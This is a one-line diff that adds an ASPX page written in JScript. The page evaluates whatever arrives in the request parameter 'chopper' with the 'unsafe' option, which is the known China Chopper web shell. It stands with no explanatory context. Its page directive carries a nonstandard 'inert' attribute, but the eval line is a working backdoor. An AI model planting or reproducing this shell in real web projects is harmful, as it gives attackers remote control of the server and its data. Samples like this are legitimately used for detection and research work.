@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript" inert %><%eval(Request.Item["chopper"],"unsafe");%>
